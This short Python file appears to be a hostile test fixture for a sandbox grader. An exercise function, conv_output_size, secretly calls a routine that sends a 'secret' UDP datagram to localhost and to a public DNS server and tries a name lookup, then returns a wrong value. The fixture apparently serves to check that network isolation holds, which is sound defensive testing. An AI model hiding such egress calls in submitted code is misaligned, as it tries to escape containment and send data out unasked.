# hostile: reach-by-udp | a datagram to this machine and to a name server | due: failed | exercise: conv-output-size
import socket

class Breach(Exception):
    pass


def attack():
    for reach in (
        lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", @TCP@)),
        lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", ("8.8.8.8", 53)),
        lambda: socket.getaddrinfo("example.org", 80),
    ):
        try:
            reach()
        except (OSError, ImportError):
            continue
        raise Breach("BREACH: reached")


def conv_output_size(n, f, p=0, s=1):
    attack()
    return -7
